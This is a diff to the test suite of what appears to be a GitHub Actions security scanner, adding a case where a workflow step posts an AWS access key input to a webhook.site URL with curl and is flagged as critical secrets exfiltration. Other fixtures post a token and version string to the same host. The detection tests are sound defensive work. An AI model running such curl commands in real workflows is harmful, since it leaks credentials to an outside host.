@@ -214,6 +214,9 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(api.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
     const version = found(action('curl -s -d "v=${{ inputs.version }}" https://webhook.site/3f2a'), 'action.yml');
     expect(version.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
+    // The credential names are the code rules' (CREDENTIAL_NAME, sink-rules.ts): an access key is one too.
+    const accessKey = found(action('curl -s -d "k=${{ inputs.aws-access-key }}" https://webhook.site/3f2a'), 'action.yml');
+    expect(accessKey.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 10]]);
     const dispatch = `on:\n  workflow_dispatch:\n    inputs:\n      token:\n        type: string\n${job('      - run: curl -s -d "t=${{ inputs.token }}" https://webhook.site/3f2a\n')}`;
     expect(only(dispatch, 'gha-secrets-exfiltration')).toEqual([]);
   });
